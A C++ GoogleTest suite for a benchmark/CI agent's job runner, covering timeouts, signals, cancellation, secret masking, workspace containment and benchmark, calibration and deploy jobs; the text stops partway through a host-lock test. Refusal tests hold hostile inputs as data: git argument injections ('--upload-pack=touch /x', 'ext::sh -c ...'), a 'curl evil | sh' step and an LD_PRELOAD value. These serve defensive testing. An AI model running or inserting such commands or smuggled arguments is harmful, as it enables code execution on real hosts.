// The job runner's logic with a fake process launcher and a fake clock:
// step order, results and their sequence numbers, failure, timeouts and the
// SIGTERM-then-SIGKILL sequence, cancellation.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "agent/deploy_process.hpp"
#include "agent/job_runner.hpp"

namespace yardstick {
namespace {

class FakeLauncher : public ProcessLauncher {
 public:
  std::optional<Spawned> spawn(const SpawnRequest& request, std::string*) override {
    int out[2], err[2];
    EXPECT_EQ(pipe2(out, O_NONBLOCK), 0);
    EXPECT_EQ(pipe2(err, O_NONBLOCK), 0);
    writers.push_back(out[1]);
    writers.push_back(err[1]);
    requests.push_back(request);
    return Spawned{next_pid++, out[0], err[0], {}, 0};
  }
  void signal_group(pid_t pgid, int signal) override { group_signals.push_back({pgid, signal}); }
  int signal_tagged(const std::string& tag, int signal) override {
    tags.push_back(tag);
    tagged_signals.push_back(signal);
    return 0;
  }
  ~FakeLauncher() override {
    for (int fd : writers) close(fd);
  }
  pid_t next_pid = 1000;
  std::vector<SpawnRequest> requests;
  std::vector<std::pair<pid_t, int>> group_signals;
  std::vector<std::string> tags;
  std::vector<int> tagged_signals;
  std::vector<int> writers;
};

struct Event {
  std::string what;
  ResultKey key;
  std::string detail;
};

class RecordingSink : public ResultSink {
 public:
  void step_started(const ResultKey& k, uint32_t i, const std::string& n, int64_t) override {
    events.push_back({"started", k, std::to_string(i) + ":" + n});
  }
  void step_finished(const ResultKey& k, const StepResult& s) override {
    events.push_back({"finished", k, std::to_string(s.index) + ":" + std::to_string(s.exit_code)});
    steps.push_back(s);
  }
  void log_chunk(const ResultKey& k, LogStream, int32_t, const std::string& d, int64_t) override {
    events.push_back({"log", k, d});
  }
  void job_finished(const ResultKey& k, JobOutcome o, const std::string& m, int64_t) override {
    events.push_back({"job", k, m});
    outcome = o;
    message = m;
  }
  void sample(const ResultKey& k, const std::string& v, uint32_t vi, uint32_t i,
              const StepResult& r) override {
    events.push_back({"sample", k, v + ":" + std::to_string(vi) + ":" + std::to_string(i)});
    samples.push_back(r);
  }
  void metric(const ResultKey& k, int32_t, const std::string&, int32_t,
              const CollectedMetric& m) override {
    events.push_back({"metric", k, m.name});
    metrics.push_back(m);
  }
  void calibration(const ResultKey& k, const CalibrationTimes& t) override {
    events.push_back({"calibration", k, t.benchmark});
    calibrations.push_back(t);
  }
  void deploy_phase(const ResultKey& k, const DeployPhase& p) override {
    events.push_back({"deploy_phase", k, p.name});
    phases.push_back(p);
  }
  void deploy_result(const ResultKey& k, const DeployReport& r) override {
    events.push_back({"deploy_result", k, std::string(to_string(r.outcome))});
    deploys.push_back(r);
  }
  std::vector<DeployPhase> phases;
  std::vector<DeployReport> deploys;
  std::string message;
  std::vector<Event> events;
  std::vector<CalibrationTimes> calibrations;
  std::vector<StepResult> steps;
  std::vector<StepResult> samples;
  std::vector<CollectedMetric> metrics;
  std::optional<JobOutcome> outcome;
};

ExitInfo exited(pid_t pid, int code) {
  return {pid, code << 8, 10, 20, 30};
}
ExitInfo killed(pid_t pid, int sig) {
  return {pid, sig, 0, 0, 0};
}

class JobRunnerTest : public ::testing::Test {
 protected:
  void SetUp() override {
    home = std::filesystem::temp_directory_path() /
           ("ys-runner-" + std::to_string(getpid()) + "-" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    job.job_id = 5;
    job.attempt = 2;
    job.pipeline_id = 4;
    job.env = {{"FROM_PIPELINE", "1"}};
  }
  void TearDown() override { std::filesystem::remove_all(home); }
  std::unique_ptr<JobRunner> make() {
    RunnerOptions o = options;
    o.home = home.string();
    o.agent_name = "a1";
    o.kill_grace_ms = 1000;
    return std::make_unique<JobRunner>(job, o, launcher, clock, sink);
  }
  std::filesystem::path home;
  JobAssignment job;
  RunnerOptions options;  // home, agent name and grace are set by make()
  FakeLauncher launcher;
  FakeClock clock;
  RecordingSink sink;
};

TEST_F(JobRunnerTest, RunsStepsInOrderWithIncreasingSequenceNumbers) {
  job.env["CACHE"] = "${YARDSTICK_WORKSPACE}/cache";
  job.steps = {{"one",
                "echo 1",
                {{"STEP", "x"}, {"BOTH", "${FROM_PIPELINE}-$HOME-${UNSET_X}"}},
                true,
                0,
                {},
                {}},
               {"two", "echo 2", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  ASSERT_EQ(launcher.requests.size(), 1u);
  EXPECT_EQ(launcher.requests[0].command, "echo 1");
  auto has = [&](const std::string& kv) {
    auto& env = launcher.requests[0].env;
    return std::find(env.begin(), env.end(), kv) != env.end();
  };
  EXPECT_TRUE(has("STEP=x"));
  EXPECT_TRUE(has("FROM_PIPELINE=1"));
  EXPECT_TRUE(has("YARDSTICK_JOB_ID=5"));
  EXPECT_TRUE(has("YARDSTICK_ATTEMPT=2"));
  EXPECT_TRUE(has("YARDSTICK_AGENT=a1"));
  // ${NAME} in env values reads the YARDSTICK_* variables and the values before it.
  const std::string work = (home / "work" / "5-2").string();
  EXPECT_TRUE(has("YARDSTICK_WORKSPACE=" + work));
  EXPECT_TRUE(has("CACHE=" + work + "/cache"));
  EXPECT_TRUE(has("BOTH=1-$HOME-"));
  EXPECT_TRUE(r->on_exit(exited(1000, 0)));
  ASSERT_EQ(launcher.requests.size(), 2u);
  EXPECT_FALSE(r->on_exit(exited(4242, 0)));  // an orphan is not the runner's
  EXPECT_TRUE(r->on_exit(exited(1001, 0)));
  EXPECT_TRUE(r->done());
  EXPECT_EQ(sink.outcome, JobOutcome::kSucceeded);
  uint64_t seq = 0;
  for (const auto& e : sink.events) {
    EXPECT_GT(e.key.seq, seq);
    seq = e.key.seq;
    EXPECT_EQ(e.key.job_id, 5u);
    EXPECT_EQ(e.key.attempt, 2u);
  }
  ASSERT_EQ(sink.steps.size(), 2u);
  EXPECT_EQ(sink.steps[0].user_us, 10u);
  EXPECT_EQ(sink.steps[0].max_rss_kb, 30u);
}

TEST_F(JobRunnerTest, FailingStepEndsTheJobAndSkipsTheRest) {
  job.steps = {{"bad", "false", {}, true, 0, {}, {}}, {"never", "echo", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  r->on_exit(exited(1000, 3));
  EXPECT_TRUE(r->done());
  EXPECT_EQ(launcher.requests.size(), 1u);
  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
  EXPECT_EQ(sink.steps[0].exit_code, 3);
  EXPECT_NE(sink.events.back().detail.find("exited with 3"), std::string::npos);
}

TEST_F(JobRunnerTest, StepTimeoutSendsTermThenKillAfterGrace) {
  job.steps = {{"slow", "sleep 100", {}, true, 5000, {}, {}}};
  auto r = make();
  r->start();
  clock.advance_ms(4999);
  r->tick();
  EXPECT_TRUE(launcher.group_signals.empty());
  clock.advance_ms(1);
  r->tick();
  ASSERT_EQ(launcher.group_signals.size(), 1u);
  EXPECT_EQ(launcher.group_signals[0], (std::pair<pid_t, int>{1000, SIGTERM}));
  EXPECT_EQ(launcher.tagged_signals.back(), SIGTERM);  // setsid daemons too
  clock.advance_ms(999);
  r->tick();
  EXPECT_EQ(launcher.group_signals.size(), 1u);
  clock.advance_ms(1);
  r->tick();
  ASSERT_EQ(launcher.group_signals.size(), 2u);
  EXPECT_EQ(launcher.group_signals[1].second, SIGKILL);
  r->on_exit(killed(1000, SIGKILL));
  EXPECT_TRUE(r->done());
  EXPECT_EQ(sink.outcome, JobOutcome::kTimedOut);
  EXPECT_TRUE(sink.steps[0].timed_out);
  EXPECT_EQ(sink.steps[0].signal, SIGKILL);
  EXPECT_EQ(launcher.tagged_signals.back(), SIGKILL);  // nothing outlives the job
}

TEST_F(JobRunnerTest, JobTimeoutCoversAllSteps) {
  job.timeout_ms = 3000;
  job.steps = {{"a", "x", {}, true, 0, {}, {}}, {"b", "y", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  clock.advance_ms(2000);
  r->on_exit(exited(1000, 0));
  clock.advance_ms(1000);
  r->tick();
  ASSERT_FALSE(launcher.group_signals.empty());
  EXPECT_EQ(launcher.group_signals.back(), (std::pair<pid_t, int>{1001, SIGTERM}));
  r->on_exit(killed(1001, SIGTERM));
  EXPECT_EQ(sink.outcome, JobOutcome::kTimedOut);
}

TEST_F(JobRunnerTest, CancelStopsTheRunningStep) {
  job.steps = {{"a", "x", {}, true, 0, {}, {}}, {"b", "y", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  r->cancel("cancelled by request");
  EXPECT_EQ(launcher.group_signals.back().second, SIGTERM);
  r->on_exit(killed(1000, SIGTERM));
  EXPECT_TRUE(r->done());
  EXPECT_EQ(sink.outcome, JobOutcome::kCancelled);
  EXPECT_EQ(launcher.requests.size(), 1u);  // step b never started
}

TEST_F(JobRunnerTest, OutputBecomesLogChunks) {
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  ASSERT_EQ(write(launcher.writers[0], "hello\n", 6), 6);
  for (int fd : r->fds()) r->on_readable(fd);
  clock.advance_ms(200);
  r->tick();  // flushed by age
  bool saw = false;
  for (const auto& e : sink.events) saw |= e.what == "log" && e.detail == "hello\n";
  EXPECT_TRUE(saw);
  r->on_exit(exited(1000, 0));
}

TEST_F(JobRunnerTest, WorkspaceIsFreshAndRemovedAtTheEnd) {
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  const std::string cwd = launcher.requests[0].cwd;
  EXPECT_TRUE(std::filesystem::is_directory(cwd));
  EXPECT_NE(cwd.find("/work/5-2"), std::string::npos);
  r->on_exit(exited(1000, 0));
  EXPECT_FALSE(std::filesystem::exists(cwd));
}

TEST_F(JobRunnerTest, CheckoutIsItsOwnFirstStep) {
  job.checkout_repo = "/src/repo.git";
  job.revision = "abc";
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  ASSERT_EQ(launcher.requests.size(), 1u);
  EXPECT_NE(launcher.requests[0].command.find(" clone --quiet --shared"), std::string::npos);
  EXPECT_NE(launcher.requests[0].command.find("abc^{commit}"), std::string::npos);
  EXPECT_EQ(sink.events[0].detail, "0:checkout");
  r->on_exit(exited(1000, 0));
  EXPECT_EQ(launcher.requests[1].command, "x");
  r->on_exit(exited(1001, 0));
}

TEST_F(JobRunnerTest, CheckoutHandsTheRepositoryToGitAfterADoubleDash) {
  job.checkout_repo = "/src/re@WS@po's.git";  // taken as it is, quotes and all
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  ASSERT_EQ(launcher.requests.size(), 1u);
  const std::string& script = launcher.requests[0].command;
  EXPECT_NE(script.find("clone --quiet --mirror -- "), std::string::npos) << script;
  EXPECT_NE(script.find("re@WS@po"), std::string::npos) << script;
  EXPECT_NE(script.find("--end-of-options"), std::string::npos) << script;
  EXPECT_NE(script.find("protocol.ext.allow=never"), std::string::npos) << script;
}

TEST_F(JobRunnerTest, RepositoryOrRevisionStartingWithADashIsRefusedBeforeAnythingStarts) {
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  for (auto [repo, rev] : {std::pair<std::string, std::string>{"--upload-pack=touch /x", ""},
                           {"/src/repo.git", "--output=/x"},
                           {"ext::sh -c touch% /x", "main"}}) {
    job.checkout_repo = repo;
    job.revision = rev;
    sink = RecordingSink{};
    auto r = make();
    r->start();
    EXPECT_TRUE(launcher.requests.empty()) << repo << " " << rev;
    ASSERT_TRUE(sink.outcome.has_value());
    EXPECT_EQ(*sink.outcome, JobOutcome::kFailed);
    EXPECT_NE(sink.events.back().detail.find("refused by the agent"), std::string::npos)
        << sink.events.back().detail;
    EXPECT_FALSE(std::filesystem::exists(home / "work")) << "a workspace was made";
    EXPECT_FALSE(std::filesystem::exists(home / "repos")) << "a cache was made";
  }
}

TEST_F(JobRunnerTest, WorkdirOutsideTheWorkspaceFailsTheJob) {
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  job.workdir = "../..";
  auto r = make();
  r->start();
  EXPECT_TRUE(launcher.requests.empty());
  ASSERT_TRUE(sink.outcome.has_value());
  EXPECT_EQ(*sink.outcome, JobOutcome::kFailed);
  EXPECT_NE(sink.events.back().detail.find("leads out of the workspace"), std::string::npos);

  job.workdir = "/etc";
  sink = RecordingSink{};
  r = make();
  r->start();
  EXPECT_TRUE(launcher.requests.empty());
  EXPECT_NE(sink.events.back().detail.find("--allow-absolute-workdir"), std::string::npos);
}

TEST_F(JobRunnerTest, AbsoluteWorkdirRunsWhenTheAgentAllowsIt) {
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  job.workdir = (home / "elsewhere").string() + "/";
  RunnerOptions o;
  o.home = home.string();
  o.allow_absolute_workdir = true;
  JobRunner r(job, o, launcher, clock, sink);
  r.start();
  ASSERT_EQ(launcher.requests.size(), 1u);
  EXPECT_EQ(launcher.requests[0].cwd, (home / "elsewhere").string());
  r.on_exit(exited(1000, 0));
  EXPECT_EQ(*sink.outcome, JobOutcome::kSucceeded);
}

TEST_F(JobRunnerTest, WorkdirThroughASymbolicLinkOfTheCheckoutFailsTheJob) {
  job.checkout_repo = "/src/repo.git";
  job.workdir = "out/sub";
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  ASSERT_EQ(launcher.requests.size(), 1u);
  // What the checkout would have brought: a link to a folder outside.
  const auto outside = home / "outside";
  std::filesystem::create_directories(outside);
  std::filesystem::create_symlink(outside, launcher.requests[0].cwd + "/out");
  r->on_exit(exited(1000, 0));
  EXPECT_EQ(launcher.requests.size(), 1u) << "the step started";
  ASSERT_TRUE(sink.outcome.has_value());
  EXPECT_EQ(*sink.outcome, JobOutcome::kFailed);
  EXPECT_NE(sink.events.back().detail.find("symbolic link"), std::string::npos);
  EXPECT_FALSE(std::filesystem::exists(outside / "sub")) << "made a folder outside";
}

// Every log byte sent, in order.
std::string sent_log(const RecordingSink& sink) {
  std::string out;
  for (const auto& e : sink.events)
    if (e.what == "log") out += e.detail;
  return out;
}

TEST_F(JobRunnerTest, StepsGetTheAllowedEnvironmentAndTheJobsSecretsOnly) {
  setenv("YS_UNIT_LEAK", "1", 1);  // in the agent's environment, not allowed
  options.inherited = {{"PATH", "/usr/bin:/bin"}};
  options.secrets_file = {{"TOKEN", "tok-from-file"}, {"UNASKED", "never-asked"}};
  options.environment = {{"ENV_SECRET", "from-env"}, {"TOKEN", "env-loses"}};
  job.secrets = {"TOKEN", "ENV_SECRET"};
  job.env["AUTH"] = "Bearer ${TOKEN}";
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  ASSERT_EQ(launcher.requests.size(), 1u);
  const auto& env = launcher.requests[0].env;
  auto has = [&](const std::string& kv) {
    return std::find(env.begin(), env.end(), kv) != env.end();
  };
  EXPECT_TRUE(has("PATH=/usr/bin:/bin"));
  EXPECT_TRUE(has("TOKEN=tok-from-file"));  // the file first
  EXPECT_TRUE(has("ENV_SECRET=from-env"));
  EXPECT_TRUE(has("AUTH=Bearer tok-from-file"));
  for (const auto& kv : env) {
    EXPECT_NE(kv.rfind("YS_UNIT_LEAK=", 0), 0u);
    EXPECT_NE(kv.rfind("UNASKED=", 0), 0u);
  }
  unsetenv("YS_UNIT_LEAK");
  r->on_exit(exited(1000, 0));
}

TEST_F(JobRunnerTest, SecretValuesAreMaskedInOutputAlsoAcrossReads) {
  options.secrets_file = {{"TOKEN", "tok-123456"}, {"UNASKED", "file-value"}};
  options.environment = {{"ENV_SECRET", "zz-999"}};
  job.secrets = {"TOKEN", "ENV_SECRET"};
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  auto out = [&](const std::string& text) {
    ASSERT_EQ(write(launcher.writers[0], text.data(), text.size()), (ssize_t)text.size());
    for (int fd : r->fds()) r->on_readable(fd);
    clock.advance_ms(500);
    r->tick();
  };
  out("a tok-12");  // the start of the value is held back...
  EXPECT_EQ(sent_log(sink), "a ");
  out("3456 b zz-");  // ...until it is complete
  out("999 file-value\nnot a secret: tok-");
  ASSERT_EQ(write(launcher.writers[1], "err zz-999\n", 11), 11);
  r->on_exit(exited(1000, 0));  // what is held at the end goes out
  const std::string log = sent_log(sink);
  EXPECT_NE(log.find("a *** b *** ***\nnot a secret: tok-"), std::string::npos) << log;
  EXPECT_NE(log.find("err ***\n"), std::string::npos) << log;
  for (const char* value : {"tok-123456", "zz-999", "file-value"})
    EXPECT_EQ(log.find(value), std::string::npos) << value;
}

TEST_F(JobRunnerTest, AMissingSecretFailsTheJobBeforeAnyStepNamingIt) {
  options.environment = {{"HAVE", "1"}};
  job.secrets = {"HAVE", "NOPE_TOKEN"};
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  EXPECT_TRUE(r->done());
  EXPECT_TRUE(launcher.requests.empty());
  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
  for (const auto& e : sink.events) EXPECT_NE(e.what, "started");
  EXPECT_NE(sink.events.back().detail.find("no secret NOPE_TOKEN"), std::string::npos)
      << sink.events.back().detail;
  EXPECT_NE(sent_log(sink).find("NOPE_TOKEN"), std::string::npos);
}

TEST_F(JobRunnerTest, CredentialsOfTheCheckoutUrlAreMaskedInWhatIsSent) {
  job.checkout_repo = "https://user:pw-s3cret@example.com/x.git";
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  ASSERT_EQ(launcher.requests.size(), 1u);
  EXPECT_NE(launcher.requests[0].command.find("pw-s3cret"), std::string::npos);  // git needs it
  const std::string git_error = "fatal: could not read from 'https://user:pw-s3cret@example.com'\n";
  ASSERT_EQ(write(launcher.writers[1], git_error.data(), git_error.size()),
            (ssize_t)git_error.size());
  r->on_exit(exited(1000, 128));
  ASSERT_EQ(sink.steps.size(), 1u);
  EXPECT_EQ(sink.steps[0].command.find("pw-s3cret"), std::string::npos);
  EXPECT_NE(sink.steps[0].command.find("https://***@example.com/x.git"), std::string::npos);
  EXPECT_EQ(sent_log(sink).find("pw-s3cret"), std::string::npos) << sent_log(sink);
  EXPECT_NE(sent_log(sink).find("***"), std::string::npos);
}

TEST_F(JobRunnerTest, ASecretsNameHoldsTheSecretWhateverEnvSetsAndTheCheckoutGetsIt) {
  options.secrets_file = {{"TOKEN", "the-value"}};
  job.secrets = {"TOKEN"};
  job.env["TOKEN"] = "from-env";
  job.checkout_repo = "/src/repo.git";
  job.steps = {{"a", "x", {{"TOKEN", "from-step"}}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  auto has = [&](size_t i, const std::string& kv) {
    const auto& env = launcher.requests.at(i).env;
    return std::find(env.begin(), env.end(), kv) != env.end();
  };
  EXPECT_TRUE(has(0, "TOKEN=the-value"));  // the checkout, e.g. for GIT_ASKPASS
  r->on_exit(exited(1000, 0));
  EXPECT_TRUE(has(1, "TOKEN=the-value"));
  r->on_exit(exited(1001, 0));
}

TEST_F(JobRunnerTest, MetricNamesAndUnitsFromTheMetricsFileAreMasked) {
  options.secrets_file = {{"TOKEN", "tok-777"}};
  job.secrets = {"TOKEN"};
  job.steps = {{"a", "x", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  std::string metrics;
  for (const auto& kv : launcher.requests[0].env)
    if (kv.rfind("YARDSTICK_METRICS=", 0) == 0) metrics = kv.substr(18);
  ASSERT_FALSE(metrics.empty());
  std::ofstream(metrics) << "leak.tok-777 1.5 tok-777s\n";
  r->on_exit(exited(1000, 0));
  ASSERT_EQ(sink.metrics.size(), 1u);
  EXPECT_EQ(sink.metrics[0].name, "leak.***");
  EXPECT_EQ(sink.metrics[0].unit, "***s");
}

TEST(ShellQuote, QuotesSingleQuotes) {
  EXPECT_EQ(shell_quote("it's"), "'it'\\''s'");
  EXPECT_EQ(shell_quote(""), "''");
}

}  // namespace
}  // namespace yardstick

namespace yardstick {
namespace {

// A benchmark through the runner: only counted runs become samples, and
// prepare/conclude run around every run but are not measured.
TEST_F(JobRunnerTest, BenchRunsPlanAndReportsOnlyCountedRunsAsSamples) {
  BenchSpec b;
  b.run = "cmd";
  b.prepare = "prep";
  b.warmup = 1;
  b.runs = 2;
  job.bench = b;
  job.variants = {{"base", {}, ""}, {"fast", {{"FAST", "1"}}, "cmd --fast"}};
  auto r = make();
  r->start();
  std::vector<std::string> commands;
  pid_t pid = 1000;
  while (!r->done()) {
    ASSERT_LT(pid, 1100);
    commands.push_back(launcher.requests.back().command);
    r->on_exit(exited(pid++, 0));
  }
  EXPECT_EQ(commands, (std::vector<std::string>{"prep", "cmd", "prep", "cmd --fast",  // warm-up
                                                "prep", "cmd", "prep", "cmd --fast",  // run 1
                                                "prep", "cmd", "prep", "cmd --fast"}));
  EXPECT_EQ(sink.samples.size(), 4u);
  std::vector<std::string> samples;
  for (const auto& e : sink.events)
    if (e.what == "sample") samples.push_back(e.detail);
  EXPECT_EQ(samples, (std::vector<std::string>{"base:0:0", "fast:1:0", "base:0:1", "fast:1:1"}));
  // The variant's env reaches its runs.
  const auto& env = launcher.requests[3].env;
  EXPECT_NE(std::find(env.begin(), env.end(), "FAST=1"), env.end());
  EXPECT_EQ(sink.outcome, JobOutcome::kSucceeded);
}

TEST_F(JobRunnerTest, FailedBenchRunFailsTheJobUnlessIgnored) {
  BenchSpec b;
  b.run = "cmd";
  b.runs = 3;
  job.bench = b;
  job.variants = {{"only", {}, ""}};
  auto r = make();
  r->start();
  r->on_exit(exited(1000, 2));
  EXPECT_TRUE(r->done());
  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
  EXPECT_EQ(sink.samples.size(), 1u);  // the failed run is still a sample, with its exit code
  EXPECT_EQ(sink.samples[0].exit_code, 2);
}

TEST_F(JobRunnerTest, FailedBenchRunStillCleansUpWhatSetupMade) {
  BenchSpec b;
  b.run = "cmd";
  b.setup = "make-fixture";
  b.cleanup = "remove-fixture";
  b.runs = 3;
  job.bench = b;
  job.variants = {{"a", {}, ""}, {"b", {}, ""}};
  auto r = make();
  r->start();
  // setup a, run a (fails): b's setup never ran, so only a is cleaned up.
  ASSERT_EQ(launcher.requests.back().command, "make-fixture");
  r->on_exit(exited(1000, 0));
  ASSERT_EQ(launcher.requests.back().command, "cmd");
  r->on_exit(exited(1001, 1));
  ASSERT_FALSE(r->done());
  ASSERT_EQ(launcher.requests.size(), 3u);
  EXPECT_EQ(launcher.requests.back().command, "remove-fixture");
  r->on_exit(exited(1002, 0));
  EXPECT_TRUE(r->done());
  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
  ASSERT_FALSE(sink.events.empty());
  EXPECT_EQ(sink.events.back().what, "job");
  EXPECT_EQ(sink.events.back().detail, "run 1 of variant a exited with 1");
}

TEST_F(JobRunnerTest, IgnoredBenchFailureGoesOn) {
  BenchSpec b;
  b.run = "cmd";
  b.runs = 3;
  b.ignore_failure = true;
  job.bench = b;
  job.variants = {{"only", {}, ""}};
  auto r = make();
  r->start();
  for (pid_t p = 1000; !r->done(); ++p) r->on_exit(exited(p, 1));
  EXPECT_EQ(sink.outcome, JobOutcome::kSucceeded);
  EXPECT_EQ(sink.samples.size(), 3u);
}

}  // namespace
}  // namespace yardstick

namespace yardstick {
namespace {

TEST_F(JobRunnerTest, CalibrationJobRunsTheAgentsOwnProgramAndReportsEachBenchmark) {
  job.kind = JobKind::kCalibrate;
  job.env.clear();
  options.self_exe = "/opt/yardstick/bin/yardstick-agent";
  auto r = make();
  r->start();
  ASSERT_EQ(launcher.requests.size(), 1u);
  const std::string work = (home / "work" / "5-2").string();
  EXPECT_EQ(launcher.requests[0].command, "'/opt/yardstick/bin/yardstick-agent' calibrate --dir '" +
                                              work + "' --out '" + work +
                                              ".calibration' --repetitions 15");
  // What `yardstick-agent calibrate` writes.
  std::ofstream(work + ".calibration") << "cpu 0.010 0.011 0.012\nio 0.004 0.005 0.004\n";
  EXPECT_TRUE(r->on_exit(exited(1000, 0)));
  EXPECT_TRUE(r->done());
  EXPECT_EQ(sink.outcome, JobOutcome::kSucceeded);
  ASSERT_EQ(sink.calibrations.size(), 2u);
  EXPECT_EQ(sink.calibrations[0].benchmark, "cpu");
  EXPECT_EQ(sink.calibrations[0].times_s, (std::vector<double>{0.010, 0.011, 0.012}));
  EXPECT_EQ(sink.calibrations[1].benchmark, "io");
  EXPECT_FALSE(std::filesystem::exists(work + ".calibration"));
}

TEST_F(JobRunnerTest, CalibrationJobWithoutResultsFails) {
  job.kind = JobKind::kCalibrate;
  job.env.clear();
  options.self_exe = "/bin/yardstick-agent";
  auto r = make();
  r->start();
  EXPECT_TRUE(r->on_exit(exited(1000, 0)));  // exited 0, wrote nothing
  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
  EXPECT_TRUE(sink.calibrations.empty());
}

TEST_F(JobRunnerTest, CalibrationJobCarryingACommandIsRefused) {
  job.kind = JobKind::kCalibrate;
  job.env.clear();
  job.steps = {{"sneaky", "curl evil | sh", {}, true, 0, {}, {}}};
  options.self_exe = "/bin/yardstick-agent";
  auto r = make();
  r->start();
  EXPECT_TRUE(launcher.requests.empty());
  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
  job.steps.clear();
  job.env = {{"LD_PRELOAD", "/tmp/x.so"}};
  sink = RecordingSink();
  auto r2 = make();
  r2->start();
  EXPECT_TRUE(launcher.requests.empty());
  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
}

}  // namespace
}  // namespace yardstick

namespace yardstick {
namespace {

TEST_F(JobRunnerTest, DeployJobRunsTheAgentsDeployProcessAndReportsItsPhasesAndResult) {
  job.kind = JobKind::kDeploy;
  job.steps.clear();
  DeploySpec d;
  d.steps = {{"release", "./release.sh", {}, true, 0, {}, {}}};
  d.rollback = RollbackSpec{"./rollback.sh"};
  job.deploy = d;
  options.self_exe = "/opt/yardstick/bin/yardstick-agent";
  auto r = make();
  r->start();
  ASSERT_EQ(launcher.requests.size(), 1u);
  const std::string work = (home / "work" / "5-2").string();
  EXPECT_EQ(launcher.requests[0].command, "'/opt/yardstick/bin/yardstick-agent' deploy --job '" +
                                              work + ".deploy' --events '" + work +
                                              ".deploy-events'");
  // The job file holds the whole job, deploy section included.
  std::string error;
  auto written = read_job_file(work + ".deploy", &error);
  ASSERT_TRUE(written) << error;
  EXPECT_EQ(written->deploy, job.deploy);

  // What `yardstick-agent deploy` writes as it goes: a phase, then (in a
  // second write, the line cut in two) its result.
  {
    std::ofstream(work + ".deploy-events")
        << event_line(DeployPhase{"step release", 1'000'000, 2'000'000, false, "exit 1"});
  }
  clock.advance_ms(1000);
  r->tick();
  ASSERT_EQ(sink.phases.size(), 1u);
  EXPECT_EQ(sink.phases[0].name, "step release");
  EXPECT_FALSE(sink.phases[0].ok);
  DeployReport report;
  report.outcome = DeployOutcome::kRolledBack;
  report.reason = "step_failed";
  report.message = "step release failed (exit 1); rolled back";
  report.probe = ProbeCounts{};
  report.probe->sent = 1843;
  const std::string line = event_line(report);
  { std::ofstream(work + ".deploy-events", std::ios::app) << line.substr(0, 20); }
  clock.advance_ms(1000);
  r->tick();
  EXPECT_TRUE(sink.deploys.empty());  // half a line is not an event yet
  { std::ofstream(work + ".deploy-events", std::ios::app) << line.substr(20); }
  EXPECT_TRUE(r->on_exit(exited(1000, 1)));
  EXPECT_TRUE(r->done());
  ASSERT_EQ(sink.deploys.size(), 1u);
  EXPECT_EQ(sink.deploys[0], report);
  // The job fails with the deploy's own words, not "exited with 1".
  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
  EXPECT_EQ(sink.message, "step release failed (exit 1); rolled back");
  EXPECT_FALSE(std::filesystem::exists(work + ".deploy-events"));
  EXPECT_FALSE(std::filesystem::exists(work + ".deploy"));
}

TEST_F(JobRunnerTest, ADeployProcessKilledBeforeItsResultStillEndsWithOne) {
  job.kind = JobKind::kDeploy;
  job.steps.clear();
  job.deploy = DeploySpec{{{"release", "./release.sh", {}, true, 0, {}, {}}}, {}, {}, {}, {}};
  options.self_exe = "/bin/yardstick-agent";
  auto r = make();
  r->start();
  EXPECT_TRUE(r->on_exit(exited(1000, 2)));
  ASSERT_EQ(sink.deploys.size(), 1u);
  EXPECT_EQ(sink.deploys[0].outcome, DeployOutcome::kFailed);
  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
}

TEST_F(JobRunnerTest, ADeployJobWithoutItsDeploySectionIsRefused) {
  job.kind = JobKind::kDeploy;
  options.self_exe = "/bin/yardstick-agent";
  auto r = make();
  r->start();
  EXPECT_TRUE(launcher.requests.empty());
  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
  EXPECT_NE(sink.message.find("without its deploy section"), std::string::npos);
}

}  // namespace
}  // namespace yardstick

namespace yardstick {
namespace {

// One benchmark per host: a job that measures waits while another holds
// the host's lock, says so in its log, starts once it is free, and frees
// it when it ends; a job that does not measure never waits.
TEST_F(JobRunnerTest, AnExclusiveJobWaitsForTheHostAndSaysSo) {
  const std::string dir = home.string() + "-lock";
  HostLock lock(dir), neighbour(dir);
  options.host_lock = &lock;
  std::string error;
  auto held = neighbour.try_acquire("agent b, job 9", &error);
  ASSERT_TRUE(held) << error;
  job.slots = kExclusiveSlots;
  job.steps = {{"measure", "true", {}, true, 0, {}, {}}};
  auto r = make();
  r->start();
  EXPECT_TRUE(r->waiting_for_host());
  EXPECT_TRUE(launcher.requests.empty());
  clock.advance_ms(1000);
  r->tick();
  EXPECT_TRUE(launcher.requests.empty());
  held.reset();  // the neighbour's benchmark ended
  clock.advance_ms(200);
  r->tick();
  ASSERT_EQ(launcher.requests.size(), 1u);
  EXPECT_FALSE(r->waiting_for_host());
  // While it runs, the host is its own.
  EXPECT_FALSE(neighbour.try_acquire("agent b, job 10", &error));
  EXPECT_NE(neighbour.holder().find("agent a1, job 5 attempt 2"), std::string::npos)
      << neighbour.holder();
  r->on_exit(exited(1000, 0));
